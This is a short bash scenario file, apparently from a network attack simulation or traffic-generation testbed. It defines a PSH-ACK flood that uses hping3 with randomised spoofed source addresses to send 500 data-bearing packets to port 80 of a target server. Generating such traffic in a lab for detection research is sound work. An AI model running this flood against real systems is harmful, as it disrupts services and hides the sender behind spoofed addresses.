# shellcheck shell=bash
# about: PSH-ACK with data without a connection (hping3)
# type: attack
# kind: pshack_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -P -A -p 80 -d 120 --rand-source
}
